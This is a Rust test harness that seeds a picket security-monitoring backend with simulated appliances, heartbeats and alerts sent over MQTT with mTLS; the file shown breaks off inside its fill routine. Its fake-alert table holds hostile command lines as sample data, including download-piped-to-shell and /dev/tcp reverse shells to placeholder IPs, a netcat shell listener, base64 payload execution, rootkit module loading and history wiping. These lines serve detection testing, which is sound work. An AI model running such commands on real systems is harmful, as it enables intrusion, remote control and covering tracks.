//! Seeds a running picket-backend the way a fleet would: simulated
//! appliances enroll over the API (`POST /api/v1/enroll` with one-time
//! tokens an admin creates), then publish signed heartbeats and alert
//! batches over MQTT with mTLS, exactly like picketd's uplink. The browser
//! tests (`backend/ui-tests/run.sh`) use it; it also fills a demo backend.
//!
//! ```text
//! seed fill    --api http://127.0.0.1:8080 --mqtt 127.0.0.1:8883 --user admin \
//!              --password PW --devices 300 --alerts 20000 --state seed.json
//! seed publish --mqtt 127.0.0.1:8883 --state seed.json
//!     then one JSON object per line on stdin:
//!     {"command_line": "...", "level": "high", "rule_title": "..."}
//!     and one line per publish on stdout: {"id": "<alert id>", "sent_ms": ...}
//! ```
//!
//! A test harness, so `anyhow` and plain `println!`.
#![allow(
    clippy::print_stdout,
    clippy::too_many_lines,
    clippy::cast_possible_truncation
)]

use std::io::BufRead as _;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{anyhow, bail, Context as _};
use picket_proto::ed25519_dalek::{SigningKey, VerifyingKey};
use picket_proto::topic::{self, Channel};
use picket_proto::{
    encode_frame_compressed_to_vec, encode_frame_to_vec, heapless, Alert, AlertBatch, AlertId,
    BoundedStr, DeviceId, EnrollRequest, EnrollResponse, Event, Field, FileAction, FileEvent,
    Frame, Heartbeat, IpAddr, Level, Message, ModuleState, ModuleStatus, NetworkEvent,
    ProcessEvent, TechniqueId,
};
use rumqttc::{AsyncClient, Event as MqttEvent, MqttOptions, Packet, QoS, Transport};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

// ---------------------------------------------------------------- args

#[derive(Debug, Default)]
struct Args {
    mode: String,
    api: String,
    mqtt: String,
    user: String,
    password: String,
    devices: usize,
    alerts: usize,
    state: String,
    db: String,
}

fn args() -> anyhow::Result<Args> {
    let mut a = Args {
        devices: 300,
        alerts: 20_000,
        user: "admin".into(),
        state: "seed-state.json".into(),
        ..Args::default()
    };
    let mut it = std::env::args().skip(1);
    a.mode = it.next().context("mode: fill, publish or fill-db")?;
    while let Some(k) = it.next() {
        let v = it.next().with_context(|| format!("{k} needs a value"))?;
        match k.as_str() {
            "--api" => a.api = v,
            "--mqtt" => a.mqtt = v,
            "--user" => a.user = v,
            "--password" => a.password = v,
            "--devices" => a.devices = v.parse()?,
            "--alerts" => a.alerts = v.parse()?,
            "--state" => a.state = v,
            "--db" => a.db = v,
            _ => bail!("unknown option {k}"),
        }
    }
    Ok(a)
}

// ---------------------------------------------------------------- helpers

fn now_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

/// splitmix64: deterministic variety without a rand dependency.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn unhex(s: &str) -> anyhow::Result<Vec<u8>> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).map_err(Into::into))
        .collect()
}

/// A minimal HTTP/1.1 client over loopback (one request per connection).
async fn http(
    base: &str,
    method: &str,
    path: &str,
    bearer: Option<&str>,
    content_type: &str,
    body: &[u8],
) -> anyhow::Result<(u16, Vec<u8>)> {
    let host = base
        .strip_prefix("http://")
        .context("--api must be http://host:port")?
        .trim_end_matches('/');
    let mut s = tokio::net::TcpStream::connect(host)
        .await
        .with_context(|| format!("connect {host}"))?;
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nAccept: */*\r\n\
         Content-Type: {content_type}\r\nContent-Length: {}\r\n",
        body.len()
    );
    if let Some(t) = bearer {
        req.push_str(&format!("Authorization: Bearer {t}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).await?;
    s.write_all(body).await?;
    let mut buf = Vec::new();
    s.read_to_end(&mut buf).await?;
    let split = buf
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .context("no end of headers")?;
    let head = String::from_utf8_lossy(&buf[..split]).to_string();
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .context("no status")?
        .parse()?;
    let mut payload = buf[split + 4..].to_vec();
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        let mut out = Vec::new();
        let mut rest = &payload[..];
        loop {
            let nl = rest
                .windows(2)
                .position(|w| w == b"\r\n")
                .context("bad chunk")?;
            let n = usize::from_str_radix(std::str::from_utf8(&rest[..nl])?.trim(), 16)?;
            if n == 0 {
                break;
            }
            out.extend_from_slice(&rest[nl + 2..nl + 2 + n]);
            rest = &rest[nl + 2 + n + 2..];
        }
        payload = out;
    }
    Ok((status, payload))
}

async fn json_call(
    base: &str,
    method: &str,
    path: &str,
    bearer: Option<&str>,
    body: &serde_json::Value,
) -> anyhow::Result<serde_json::Value> {
    let (status, b) = http(
        base,
        method,
        path,
        bearer,
        "application/json",
        body.to_string().as_bytes(),
    )
    .await?;
    if !(200..300).contains(&status) {
        bail!(
            "{method} {path}: HTTP {status}: {}",
            String::from_utf8_lossy(&b)
        );
    }
    Ok(serde_json::from_slice(&b)?)
}

// ---------------------------------------------------------------- devices

#[derive(Clone)]
struct Device {
    key: SigningKey,
    id: DeviceId,
    cert: CertificateDer<'static>,
    ca: CertificateDer<'static>,
}

const ED25519_PKCS8_PREFIX: [u8; 16] = [
    0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20,
];

impl Device {
    fn tls(&self) -> anyhow::Result<Arc<rustls::ClientConfig>> {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(self.ca.clone())?;
        let mut pkcs8 = ED25519_PKCS8_PREFIX.to_vec();
        pkcs8.extend_from_slice(self.key.as_bytes());
        let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pkcs8));
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        Ok(Arc::new(
            rustls::ClientConfig::builder_with_provider(provider)
                .with_protocol_versions(&[&rustls::version::TLS13])?
                .with_root_certificates(roots)
                .with_client_auth_cert(vec![self.cert.clone()], key)?,
        ))
    }

    fn to_json(&self) -> serde_json::Value {
        serde_json::json!({
            "key": hex(self.key.as_bytes()),
            "cert": hex(&self.cert),
            "ca": hex(&self.ca),
        })
    }

    fn from_json(v: &serde_json::Value) -> anyhow::Result<Self> {
        let field = |k: &str| -> anyhow::Result<Vec<u8>> {
            unhex(v[k].as_str().with_context(|| format!("state: no {k}"))?)
        };
        let seed: [u8; 32] = field("key")?
            .try_into()
            .map_err(|_| anyhow!("state: bad key"))?;
        let key = SigningKey::from_bytes(&seed);
        Ok(Self {
            id: DeviceId::from_public_key(&key.verifying_key()),
            key,
            cert: CertificateDer::from(field("cert")?),
            ca: CertificateDer::from(field("ca")?),
        })
    }

    /// Connects over mTLS; returns the client and a PUBACK counter.
    async fn connect(
        &self,
        addr: SocketAddr,
    ) -> anyhow::Result<(AsyncClient, tokio::sync::mpsc::UnboundedReceiver<()>)> {
        let mut o = MqttOptions::new(
            format!("dev-{}", self.id),
            addr.ip().to_string(),
            addr.port(),
        );
        o.set_keep_alive(Duration::from_secs(60))
            .set_max_packet_size(1 << 20, 1 << 20)
            .set_inflight(32)
            .set_clean_session(true)
            .set_transport(Transport::tls_with_config(
                rumqttc::TlsConfiguration::Rustls(self.tls()?),
            ));
        let (client, mut ev) = AsyncClient::new(o, 64);
        let (acks, rx) = tokio::sync::mpsc::unbounded_channel();
        let (conn_tx, conn_rx) = tokio::sync::oneshot::channel::<anyhow::Result<()>>();
        tokio::spawn(async move {
            let mut conn_tx = Some(conn_tx);
            loop {
                match ev.poll().await {
                    Ok(MqttEvent::Incoming(Packet::ConnAck(_))) => {
                        if let Some(tx) = conn_tx.take() {
                            let _ = tx.send(Ok(()));
                        }
                    }
                    Ok(MqttEvent::Incoming(Packet::PubAck(_))) => {
                        if acks.send(()).is_err() {
                            return;
                        }
                    }
                    // Done: polling on would connect again, and a later
                    // connection under the same client id would be thrown out
                    // by this one and throw it out in turn.
                    Ok(MqttEvent::Outgoing(rumqttc::Outgoing::Disconnect)) => return,
                    Ok(_) => {}
                    Err(e) => {
                        if let Some(tx) = conn_tx.take() {
                            let _ = tx.send(Err(anyhow!("mqtt: {e}")));
                            return;
                        }
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
        });
        tokio::time::timeout(Duration::from_secs(15), conn_rx)
            .await
            .context("mqtt connect timed out")??
            .context("mqtt connect")?;
        Ok((client, rx))
    }
}

async fn enroll(
    api: &str,
    bearer: &str,
    command_key: &VerifyingKey,
    seed: [u8; 32],
    hostname: &str,
    version: &str,
) -> anyhow::Result<Device> {
    let key = SigningKey::from_bytes(&seed);
    let id = DeviceId::from_public_key(&key.verifying_key());
    let tok = json_call(
        api,
        "POST",
        "/api/v1/enrollment-tokens",
        Some(bearer),
        &serde_json::json!({ "label": format!("seed {hostname}"), "ttl_secs": 3600 }),
    )
    .await?;
    let token = tok["token"].as_str().context("no token")?.to_owned();
    let request = Message::EnrollRequest(EnrollRequest {
        token: BoundedStr::new(&token)?,
        public_key: key.verifying_key().to_bytes(),
        csr_der: None,
        hostname: BoundedStr::new(hostname)?,
        agent_version: BoundedStr::new(version)?,
    });
    let frame = encode_frame_to_vec(&request, id, &key)?;
    let (status, body) = http(
        api,
        "POST",
        "/api/v1/enroll",
        None,
        "application/octet-stream",
        &frame,
    )
    .await?;
    if status != 200 {
        bail!("enroll {hostname}: HTTP {status}");
    }
    let opened = Frame::decode_exact(&body)?.open(command_key)?;
    let Message::EnrollResponse(EnrollResponse::Accepted {
        certificate_der,
        ca_certificate_der,
    }) = opened
    else {
        bail!("enrollment of {hostname} refused: {opened:?}");
    };
    Ok(Device {
        key,
        id,
        cert: CertificateDer::from(certificate_der.as_bytes().to_vec()),
        ca: CertificateDer::from(ca_certificate_der.as_bytes().to_vec()),
    })
}

// ---------------------------------------------------------------- content

struct RuleDef {
    id: &'static str,
    title: &'static str,
    level: Level,
    techniques: &'static [(u16, u16)],
    author: &'static str,
    kind: Kind,
    weight: u64,
}

#[derive(Clone, Copy)]
enum Kind {
    Proc(
        &'static [(&'static str, &'static str)],
        &'static [&'static str],
    ),
    File(FileAction, &'static [&'static str], &'static [&'static str]),
    Net(
        &'static [(&'static str, [u8; 4], u16)],
        &'static [&'static str],
    ),
}

const SHELLS: &[&str] = &[
    "/usr/sbin/sshd",
    "/usr/bin/bash",
    "/usr/sbin/cron",
    "/usr/lib/systemd/systemd",
    "/usr/bin/python3.11",
    "/usr/sbin/lighttpd",
];

const RULES: &[RuleDef] = &[
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e01",
        title: "Download piped to shell",
        level: Level::High,
        techniques: &[(1059, 4), (1105, 0)],
        author: "Picket detection team",
        weight: 14,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c curl -fsSL http://203.0.113.7/i.sh | sh",
                ),
                ("/usr/bin/sh", "sh -c wget -qO- http://198.51.100.23/x | sh"),
                (
                    "/usr/bin/bash",
                    "bash -c curl -s https://paste.example.net/raw/a8f3 | bash -s -- --quiet",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e02",
        title: "Reverse shell through /dev/tcp",
        level: Level::Critical,
        techniques: &[(1059, 4), (1071, 1)],
        author: "A. Example (example.org)",
        weight: 3,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
                ),
                (
                    "/usr/bin/bash",
                    "/bin/bash -c 'exec 5<>/dev/tcp/198.51.100.9/443; cat <&5 | bash >&5'",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e03",
        title: "Crontab modified",
        level: Level::Medium,
        techniques: &[(1053, 3)],
        author: "Picket detection team",
        weight: 8,
        kind: Kind::File(
            FileAction::Write,
            &[
                "/etc/crontab",
                "/var/spool/cron/crontabs/root",
                "/etc/cron.d/sysupdate",
            ],
            &["/usr/bin/crontab", "/usr/bin/vi", "/usr/bin/bash"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e04",
        title: "SSH authorized_keys modified",
        level: Level::High,
        techniques: &[(1098, 4)],
        author: "B. Sample",
        weight: 5,
        kind: Kind::File(
            FileAction::Write,
            &[
                "/root/.ssh/authorized_keys",
                "/home/admin/.ssh/authorized_keys",
            ],
            &["/usr/bin/bash", "/usr/bin/tee", "/usr/bin/python3.11"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e05",
        title: "Shadow file read by unusual process",
        level: Level::High,
        techniques: &[(1003, 8)],
        author: "Picket detection team",
        weight: 4,
        kind: Kind::File(
            FileAction::Read,
            &["/etc/shadow", "/etc/gshadow"],
            &["/usr/bin/cat", "/usr/bin/python3.11", "/tmp/.x/kworker"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e06",
        title: "Connection to a mining pool port",
        level: Level::High,
        techniques: &[(1496, 1), (1571, 0)],
        author: "C. Placeholder",
        weight: 6,
        kind: Kind::Net(
            &[
                ("pool.example.net", [198, 51, 100, 77], 3333),
                ("xmr.example.com", [203, 0, 113, 91], 5555),
                ("stratum.example.org", [192, 0, 2, 44], 14444),
            ],
            &[
                "/tmp/.x/kworker",
                "/dev/shm/xmrig",
                "/var/tmp/systemd-update",
            ],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e07",
        title: "Base64 payload decoded and executed",
        level: Level::Medium,
        techniques: &[(1140, 0), (1059, 4), (1027, 0)],
        author: "Picket detection team",
        weight: 6,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c echo ZWNobyBoZWxsbyB3b3JsZAo= | base64 -d | bash",
                ),
                (
                    "/usr/bin/python3.11",
                    "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e08",
        title: "System discovery commands",
        level: Level::Low,
        techniques: &[(1082, 0), (1016, 0), (1033, 0)],
        author: "D. Demo",
        weight: 20,
        kind: Kind::Proc(
            &[
                ("/usr/bin/uname", "uname -a"),
                ("/usr/sbin/ip", "ip addr show"),
                ("/usr/bin/id", "id"),
                ("/usr/bin/cat", "cat /etc/os-release"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e09",
        title: "Kernel module loaded",
        level: Level::Medium,
        techniques: &[(1547, 6)],
        author: "Picket detection team",
        weight: 3,
        kind: Kind::Proc(
            &[
                ("/usr/sbin/insmod", "insmod /tmp/diamorphine.ko"),
                ("/usr/sbin/modprobe", "modprobe -f hid_rootkit"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e10",
        title: "Shell history cleared",
        level: Level::Medium,
        techniques: &[(1070, 3)],
        author: "B. Sample",
        weight: 5,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c history -c && rm -f ~/.bash_history",
                ),
                ("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e11",
        title: "Netcat listener started",
        level: Level::Medium,
        techniques: &[(1095, 0), (1059, 4)],
        author: "D. Demo",
        weight: 4,
        kind: Kind::Proc(
            &[
                ("/usr/bin/nc", "nc -lvnp 4444 -e /bin/sh"),
                (
                    "/usr/bin/ncat",
                    "ncat --listen 0.0.0.0 9001 --exec /bin/bash",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e12",
        title: "SUID bit set on a file",
        level: Level::High,
        techniques: &[(1548, 1)],
        author: "Picket detection team",
        weight: 3,
        kind: Kind::File(
            FileAction::Chmod,
            &[
                "/tmp/.x/sh",
                "/var/tmp/dbus-helper",
                "/usr/local/bin/backup",
            ],
            &["/usr/bin/chmod"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e13",
        title: "Firewall rules flushed",
        level: Level::High,
        techniques: &[(1562, 4)],
        author: "C. Placeholder",
        weight: 3,
        kind: Kind::Proc(
            &[
                ("/usr/sbin/iptables", "iptables -F"),
                ("/usr/sbin/nft", "nft flush ruleset"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e14",
        title: "Local account created",
        level: Level::Medium,
        techniques: &[(1136, 1)],
        author: "A. Example (example.org)",
        weight: 3,
        kind: Kind::Proc(
            &[
                (
                    "/usr/sbin/useradd",
                    "useradd -M -s /bin/bash -G sudo support",
                ),
                ("/usr/sbin/adduser", "adduser --disabled-password backup2"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e15",
        title: "Execution from a world-writable directory",
        level: Level::Low,
        techniques: &[(1036, 5)],
        author: "Picket detection team",
        weight: 10,
        kind: Kind::Proc(
            &[
                ("/tmp/.x/kworker", "/tmp/.x/kworker -c /tmp/.x/config.json"),
                ("/dev/shm/upd", "/dev/shm/upd --daemon"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e16",
        title: "DNS resolver configuration changed",
        level: Level::Informational,
        techniques: &[(1565, 1)],
        author: "D. Demo",
        weight: 6,
        kind: Kind::File(
            FileAction::Write,
            &["/etc/resolv.conf", "/etc/hosts"],
            &[
                "/usr/sbin/dhclient",
                "/usr/bin/vi",
                "/usr/lib/systemd/systemd-resolved",
            ],
        ),
    },
];

const SITES: &[&str] = &[
    "berlin", "hamburg", "munich", "paris", "lyon", "madrid", "lisbon", "oslo", "warsaw", "vienna",
    "zurich", "milan", "prague", "dublin", "leeds",
];
const ROLES: &[&str] = &["gw", "edge", "fw", "vpn", "branch"];
const VERSIONS: &[&str] = &["0.1.0", "0.1.1", "0.2.0", "0.2.0", "0.2.0"];

fn level_name(l: Level) -> &'static str {
    match l {
        Level::Informational => "informational",
        Level::Low => "low",
        Level::Medium => "medium",
        Level::High => "high",
        Level::Critical => "critical",
    }
}

fn parse_level(s: &str) -> Level {
    match s {
        "informational" => Level::Informational,
        "low" => Level::Low,
        "medium" => Level::Medium,
        "critical" => Level::Critical,
        _ => Level::High,
    }
}

fn alert_id(id: DeviceId, seq: u64) -> AlertId {
    let mut b = [0u8; 16];
    b[..8].copy_from_slice(&id.0[..8]);
    b[8..].copy_from_slice(&seq.to_be_bytes());
    AlertId(b)
}

/// Owned strings an alert borrows from while it is encoded.
struct Spec {
    seq: u64,
    ts: u64,
    rule: &'static RuleDef,
    image: String,
    command_line: String,
    parent: &'static str,
    pick: u64,
}

fn techniques(r: &RuleDef) -> heapless::Vec<TechniqueId, 8> {
    r.techniques
        .iter()
        .filter_map(|&(t, s)| TechniqueId::new(t, s).ok())
        .collect()
}

fn author_field(author: &str) -> heapless::Vec<Field<'_>, 16> {
    let mut v = heapless::Vec::new();
    if let (Ok(key), Ok(value)) = (BoundedStr::new("rule_author"), BoundedStr::new(author)) {
        let _ = v.push(Field { key, value });
    }
    v
}

fn to_alert(dev: DeviceId, s: &Spec) -> Alert<'_> {
    let r = s.rule;
    let event = match r.kind {
        Kind::Proc(..) => Event::Process(ProcessEvent {
            pid: 1000 + (s.pick % 30_000) as u32,
            ppid: 400 + (s.pick % 600) as u32,
            uid: if s.pick.is_multiple_of(3) { 1000 } else { 0 },
            gid: 0,
            image: BoundedStr::truncated(&s.image),
            command_line: BoundedStr::truncated(&s.command_line),
            parent_image: Some(BoundedStr::truncated(s.parent)),
            parent_command_line: Some(BoundedStr::truncated(s.parent)),
            cwd: Some(BoundedStr::truncated(if s.pick.is_multiple_of(2) {
                "/root"
            } else {
                "/tmp"
            })),
            user: Some(BoundedStr::truncated(if s.pick.is_multiple_of(3) {
                "admin"
            } else {
                "root"
            })),
            extra: author_field(r.author),
        }),
        Kind::File(action, _, _) => Event::File(FileEvent {
            pid: 1000 + (s.pick % 30_000) as u32,
            uid: 0,
            image: BoundedStr::truncated(&s.image),
            action,
            path: BoundedStr::truncated(&s.command_line),
            target_path: None,
            extra: author_field(r.author),
        }),
        Kind::Net(targets, _) => {
            let (host, ip, port) = targets[(s.pick % targets.len() as u64) as usize];
            Event::Network(NetworkEvent {
                pid: 1000 + (s.pick % 30_000) as u32,
                uid: 0,
                image: BoundedStr::truncated(&s.image),
                transport: picket_proto::Transport::Tcp,
                direction: picket_proto::Direction::Outbound,
                src_ip: IpAddr::V4([10, (s.pick % 250) as u8, 0, 2]),
                src_port: 40_000 + (s.pick % 20_000) as u16,
                dst_ip: IpAddr::V4(ip),
                dst_port: port,
                dst_host: Some(BoundedStr::truncated(host)),
                extra: author_field(r.author),
            })
        }
    };
    Alert {
        id: alert_id(dev, s.seq),
        seq: s.seq,
        timestamp_ms: s.ts,
        level: r.level,
        rule_id: BoundedStr::truncated(r.id),
        rule_title: BoundedStr::truncated(r.title),
        techniques: techniques(r),
        event,
    }
}

fn spec(rng: &mut Rng, seq: u64, ts: u64) -> Spec {
    let total: u64 = RULES.iter().map(|r| r.weight).sum();
    let mut x = rng.below(total);
    let rule = RULES
        .iter()
        .find(|r| {
            if x < r.weight {
                true
            } else {
                x -= r.weight;
                false
            }
        })
        .unwrap_or(&RULES[0]);
    let pick = rng.next();
    let (image, command_line, parent) = match rule.kind {
        Kind::Proc(cmds, parents) => {
            let (img, cmd) = rng.pick(cmds);
            ((*img).to_owned(), (*cmd).to_owned(), *rng.pick(parents))
        }
        Kind::File(_, paths, images) => (
            (*rng.pick(images)).to_owned(),
            (*rng.pick(paths)).to_owned(),
            "",
        ),
        Kind::Net(_, images) => ((*rng.pick(images)).to_owned(), String::new(), ""),
    };
    Spec {
        seq,
        ts,
        rule,
        image,
        command_line,
        parent,
        pick,
    }
}

fn batch_frame(dev: &Device, specs: &[Spec]) -> anyhow::Result<Vec<u8>> {
    let alerts: Vec<Alert<'_>> = specs.iter().map(|s| to_alert(dev.id, s)).collect();
    let batch = AlertBatch::new(&alerts).map_err(|e| anyhow!("batch: {e:?}"))?;
    let frame = encode_frame_compressed_to_vec(&Message::AlertBatch(batch), dev.id, &dev.key, 6)
        .map_err(|e| anyhow!("encode: {e:?}"))?;
    Ok(frame)
}

fn heartbeat_frame(dev: &Device, rng: &mut Rng, version: &str) -> anyhow::Result<Vec<u8>> {
    let degraded = rng.chance(8);
    let mut modules = heapless::Vec::new();
    for (name, state) in [
        ("process", ModuleState::Running),
        ("file", ModuleState::Running),
        (
            "network",
            if degraded {
                ModuleState::Degraded
            } else {
                ModuleState::Running
            },
        ),
        ("dns", ModuleState::Disabled),
    ] {
        let _ = modules.push(ModuleStatus {
            name: BoundedStr::new(name)?,
            state,
            error: (state == ModuleState::Degraded)
                .then(|| BoundedStr::truncated("ring buffer full: 312 records lost in 60 s")),
        });
    }
    let hb = Message::Heartbeat(Heartbeat {
        seq: 1,
        sent_at_ms: now_ms() as u64,
        uptime_secs: 3600 + rng.below(40 * 86_400),
        agent_version: BoundedStr::new(version)?,
        protocol_version: picket_proto::PROTOCOL_VERSION,
        rule_bundle_version: Some(3 + rng.below(4)),
        spool_depth: if rng.chance(10) { rng.below(5000) } else { 0 },
        spool_bytes: rng.below(4 << 20),
        spool_evictions_total: if rng.chance(5) { rng.below(900) } else { 0 },
        lost_kernel_records_total: if degraded { 312 + rng.below(5000) } else { 0 },
        modules,
        cpu_permille: 5 + rng.below(120) as u32,
        rss_bytes: (18 << 20) + rng.below(30 << 20),
    });
    Ok(encode_frame_to_vec(&hb, dev.id, &dev.key)?)
}

async fn wait_acks(
    rx: &mut tokio::sync::mpsc::UnboundedReceiver<()>,
    n: usize,
) -> anyhow::Result<()> {
    for _ in 0..n {
        tokio::time::timeout(Duration::from_secs(30), rx.recv())
            .await
            .context("timed out waiting for PUBACK")?
            .context("mqtt loop ended")?;
    }
    Ok(())
}

// ---------------------------------------------------------------- modes

/// Devices publishing at once.
const PARALLEL: usize = 8;
/// Publishing rounds per device before giving up on the backend.
const ROUNDS: usize = 12;

/// How many alerts of `device` the backend has stored.
async fn stored_for(api: &str, bearer: &str, device: &str) -> anyhow::Result<usize> {
    let (status, body) = http(
        api,
        "GET",
        &format!("/api/v1/alerts/counts?device={device}&bucket=31d"),
        Some(bearer),
        "application/json",
        b"",
    )
    .await?;
    if status != 200 {
        bail!("counts: HTTP {status}: {}", String::from_utf8_lossy(&body));
    }
    let v: serde_json::Value = serde_json::from_slice(&body)?;
    Ok(v["buckets"].as_array().map_or(0, |b| {
        b.iter().filter_map(|x| x["count"].as_u64()).sum::<u64>()
    }) as usize)
}

async fn fill(a: Args) -> anyhow::Result<()> {
    let t0 = std::time::Instant::now();
    let mqtt: SocketAddr = a.mqtt.parse().context("--mqtt host:port")?;
    let login = json_call(
        &a.api,
        "POST",
        "/api/v1/auth/login",
        None,
        &serde_json::json!({ "name": a.user, "password": a.password }),
    )
    .await?;
    let bearer = login["token"].as_str().context("no token")?.to_owned();
    let (_, ck) = http(
        &a.api,
        "GET",
        "/api/v1/fleet/command-key",
        None,
        "text/plain",
        b"",
    )
    .await?;
    let ck: [u8; 32] = unhex(String::from_utf8(ck)?.trim())?
        .try_into()
        .map_err(|_| anyhow!("bad command key"))?;
    let command_key = VerifyingKey::from_bytes(&ck)?;

    let run_seed = now_ms() as u64;
    let mut rng = Rng(run_seed);
    let mut devices = Vec::new();
    for i in 0..a.devices {
        let mut seed = [0u8; 32];
        for chunk in seed.chunks_mut(8) {
            chunk.copy_from_slice(&rng.next().to_le_bytes());
        }
        let host = format!(
            "{}-{}-{:02}",
            rng.pick(ROLES),
            SITES[i % SITES.len()],
            i / SITES.len() + 1
        );
        let version = *rng.pick(VERSIONS);
        let d = enroll(&a.api, &bearer, &command_key, seed, &host, version).await?;
        devices.push((d, version));
    }
    println!(
        "enrolled {} devices in {:.1} s",
        devices.len(),
        t0.elapsed().as_secs_f64()
    );
    let state = serde_json::json!({
        "devices": devices.iter().take(4).map(|(d, _)| d.to_json()).collect::<Vec<_>>(),
    });
    std::fs::write(&a.state, state.to_string()).with_context(|| format!("write {}", a.state))?;

    // Device 0 and 1 stay quiet here: the tests publish as them. About one
    // device in 20 never reports (enrolled, then lost): "stale".
    let now = now_ms() as u64;
    let active: Vec<usize> = (2..devices.len()).filter(|i| i % 20 != 7).collect();
    let per = a.alerts / active.len().max(1);
    let mut extra = a.alerts - per * active.len();
    let sem = Arc::new(tokio::sync::Semaphore::new(PARALLEL));
    let mut tasks = tokio::task::JoinSet::new();
    for (k, &i) in active.iter().enumerate() {
        let (dev, version) = devices[i].clone();
        let mut n = per;
        if extra > 0 {
            n += 1;
            extra -= 1;
        }
        // A few busy devices: skew the counts so "top devices" means something.
        if k % 17 == 0 {
            n += per / 2;
        }
        let sem = sem.clone();
        let api = a.api.clone();
        let bearer = bearer.clone();
        let mut rng = Rng(run_seed ^ (i as u64).wrapping_mul(0x9e37_79b9));
        tasks.spawn(async move {
            let _permit = sem.acquire().await?;
            let (client, mut acks) = dev.connect(mqtt).await?;
            client
                .publish(
                    topic::topic(dev.id, Channel::Heartbeat).as_str(),
                    QoS::AtLeastOnce,
                    false,
                    heartbeat_frame(&dev, &mut rng, version)?,
                )
                .await?;
            // Timestamps over the last 7 days, denser towards now.
            let mut ts: Vec<u64> = (0..n)
                .map(|_| {
                    let f = (rng.below(1_000_000) as f64 / 1e6).powf(2.0);
                    now - 60_000 - (f * 7.0 * 86_400_000.0) as u64
                })
                .collect();
            ts.sort_unstable();
            let specs: Vec<Spec> = ts
                .iter()
                .enumerate()
                .map(|(j, &t)| spec(&mut rng, j as u64 + 1, t))
                .collect();
            let frames = specs
                .chunks(128)
                .map(|c| batch_frame(&dev, c))
                .collect::<anyhow::Result<Vec<_>>>()?;
            wait_acks(&mut acks, 1).await?;
            // A broker PUBACK means the broker has the batch, not that the
            // backend stored it: check the device's count and publish again
            // what is missing (the backend de-duplicates by alert id).
            let mut republished = 0;
            for round in 0..ROUNDS {
                if round > 0 {
                    tokio::time::sleep(Duration::from_millis(300)).await;
                    let stored = stored_for(&api, &bearer, &dev.id.to_string()).await?;
                    if stored >= n {
                        break;
                    }
                    if round == ROUNDS - 1 {
                        bail!(
                            "device {}: {stored} of {n} alerts stored after {ROUNDS} rounds",
                            dev.id
                        );
                    }
                    republished += 1;
                }
